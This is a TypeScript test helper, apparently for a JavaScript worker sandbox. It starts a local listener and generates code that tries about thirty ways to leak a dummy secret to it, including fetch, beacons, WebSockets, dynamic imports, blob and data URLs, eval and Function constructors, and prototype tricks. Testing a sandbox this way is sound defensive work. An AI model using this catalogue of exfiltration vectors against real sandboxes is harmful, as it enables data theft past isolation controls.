import { once } from 'node:events'
import { createServer } from 'node:net'

/** Somebody who listens: how many bytes, and how many connections without one, have arrived. */
export interface Listener {
  url: string
  arrived(): { connections: number; bytes: number }
  stop(): void
}

export async function startListener(): Promise<Listener> {
  const arrived = { connections: 0, bytes: 0 }
  const server = createServer((socket) => {
    arrived.connections += 1
    socket.on('error', () => undefined)
    socket.on('data', (bytes) => {
      arrived.bytes += bytes.byteLength
      socket.end('HTTP/1.1 204 No Content\r\naccess-control-allow-origin: *\r\n\r\n')
    })
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('The listener has no port.')
  return {
    url: `http://127.0.0.1:${address.port}/`,
    arrived: () => ({ ...arrived }),
    stop: () => void server.close(),
  }
}

/** What code may try to get something out of a worker, each on its own line. `to` and `leak` are given. */
const WAYS = `
import(to + leak)
import(to + leak, { with: { type: 'json' } })
(0, eval)('import(' + JSON.stringify(to + leak) + ')')
Function('to', 'return import(to)')(to + leak)
(async () => {}).constructor('to', 'await import(to)')(to + leak)
(function* () {}).constructor('to', 'yield import(to)')(to + leak).next().value
import('data:text/javascript,' + encodeURIComponent('import ' + JSON.stringify(to + leak)))
import(URL.createObjectURL(new Blob(['import ' + JSON.stringify(to + leak)], { type: 'text/javascript' })))
importScripts(to + leak)
fetch(to + leak)
fetch(to, { method: 'POST', body: leak, mode: 'no-cors', keepalive: true })
(() => { const request = new XMLHttpRequest(); request.open('GET', to + leak); request.send() })()
new WebSocket(to.replace('http', 'ws') + leak)
new EventSource(to + leak)
navigator.sendBeacon(to, leak)
new WebTransport(to.replace('http:', 'https:') + leak)
new Worker(to + leak)
new Worker('data:text/javascript,fetch(' + JSON.stringify(to + leak) + ')')
new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(to + leak) + ')'])))
new SharedWorker(to + leak)
caches.open(leak).then((cache) => cache.add(to + leak))
indexedDB.open(leak)
new BroadcastChannel('leak').postMessage(leak)
new FontFace('leak', 'url(' + to + leak + ')').load()
WebAssembly.compileStreaming(fetch(to + leak))
new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + to.slice(7, -1) }] }).createDataChannel(leak)
postMessage({ type: 'done', text: leak })
new performance.constructor.constructor('to', 'return this.fetch(to)')(to + leak)
Object.getPrototypeOf(Object.getPrototypeOf(self)).constructor.prototype.fetch.call(self, to + leak)
Reflect.construct(Object.getOwnPropertyDescriptor(self, 'WebSocket').value, [to + leak])
`
  .trim()
  .split('\n')

/** How many ways there are. */
export const WAYS_COUNT = WAYS.length

/** The body of a function that tries them all, waits for what comes of each, and returns how many it tried. */
export function waysOut(to: string): string {
  return `const to = ${JSON.stringify(to)}, leak = 'SECRET-1'
const ways = [${WAYS.map((way) => `async () => (${way})`).join(',\n')}]
const tried = Promise.allSettled(ways.map((go) => go()))
await Promise.race([tried, new Promise((done) => setTimeout(done, 1000))])
return 'tried ' + ways.length`
}
